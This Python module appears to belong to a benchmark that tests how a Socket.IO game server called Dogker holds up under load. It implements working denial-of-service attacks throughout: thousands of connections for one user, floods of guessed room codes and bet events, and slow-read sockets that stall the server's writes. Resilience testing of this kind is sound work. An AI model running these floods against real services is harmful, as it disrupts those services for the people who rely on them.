"""Attacks on Dogker's Socket.IO."""

from __future__ import annotations

import asyncio
import json
import random
import string
import time
from collections.abc import Awaitable, Callable

from benchmarks.doors.attacks import (
    FRAMES_AT_ONCE,
    RETRY_SECONDS,
    SOCKETS,
    TEXT,
    WORKERS,
    Stream,
    Target,
    answer,
    finish,
    frame,
    open_socket,
    post,
    pour,
)

SOCKET_IO = "/dogker/socket.io/?EIO=4&transport=websocket"


def event(name: str, payload: object) -> bytes:
    return frame(TEXT, b"42" + json.dumps([name, payload]).encode())


async def dogker_user(target: Target) -> dict[str, str]:
    reader, writer = await target.connect()
    writer.write(post("/dogker/users", {}))
    _, body = await answer(reader)
    writer.close()
    user: dict[str, str] = json.loads(body)["payload"]
    return user


async def open_dogker(target: Target, receive_buffer: int = 0) -> Stream | None:
    stream = await open_socket(target, SOCKET_IO, receive_buffer)
    if stream is not None:
        stream[1].write(frame(TEXT, b"40"))
    return stream


async def dogker_sockets(target: Target) -> None:
    """Two and a half thousand sockets of one user."""
    user = await dogker_user(target)
    join = event("createOrJoinRoom", {"userId": user["_id"], "gameCode": user["code"], "username": "Eve"})
    left = iter(range(2500))

    async def work() -> None:
        streams = []
        for _ in left:
            if target.over:
                break
            stream = await open_dogker(target)
            if stream is not None:
                stream[1].write(join)
                streams.append(stream)
        await asyncio.sleep(max(0.0, target.until - time.monotonic()))
        for _, writer in streams:
            writer.transport.abort()

    await finish(target, *(work() for _ in range(WORKERS)))


def dogker_flood_of(make: Callable[[dict[str, str]], bytes]) -> Callable[[Target], Awaitable[None]]:
    async def run(target: Target) -> None:
        data = make(await dogker_user(target))

        async def work() -> None:
            while not target.over:
                stream = await open_dogker(target)
                if stream is None:
                    await asyncio.sleep(RETRY_SECONDS)
                else:
                    await pour(target, stream, data)

        await finish(target, *(work() for _ in range(SOCKETS)))

    return run


def dogker_guesses(user: dict[str, str]) -> bytes:
    chance = random.Random(1)
    codes = ("".join(chance.choices(string.ascii_uppercase, k=9)) for _ in range(FRAMES_AT_ONCE))
    return b"".join(event("createOrJoinRoom", {"userId": user["_id"], "gameCode": code}) for code in codes)


def dogker_bets(user: dict[str, str]) -> bytes:
    return event("bet", {"userId": user["_id"], "gameCode": user["code"], "amount": 10}) * FRAMES_AT_ONCE


async def dogker_unread(target: Target) -> None:
    """Sockets in one room that never read, while somebody changes places in it all the time."""
    user = await dogker_user(target)
    join = event("createOrJoinRoom", {"userId": user["_id"], "gameCode": user["code"], "username": "Eve" * 10})

    async def idle() -> None:
        while not target.over:
            stream = await open_dogker(target, receive_buffer=4096)
            if stream is None:
                await asyncio.sleep(RETRY_SECONDS)
                continue
            _, writer = stream
            writer.write(join)
            writer.transport.pause_reading()  # type: ignore[attr-defined]
            while not target.over and not writer.transport.is_closing():
                await asyncio.sleep(0.2)
                writer.write(frame(TEXT, b"3"))
            target.counts["cut"] += not target.over

    sites = [{"userId": user["_id"], "gameCode": user["code"], "numberSite": site} for site in (1, 2)]
    data = b"".join(event("setPlayerSite", site) for site in sites * (FRAMES_AT_ONCE // 2))

    async def move() -> None:
        while not target.over:
            stream = await open_dogker(target)
            if stream is None:
                await asyncio.sleep(RETRY_SECONDS)
            else:
                stream[1].write(join)
                await pour(target, stream, data)

    await finish(target, move(), *(idle() for _ in range(2 * SOCKETS)))
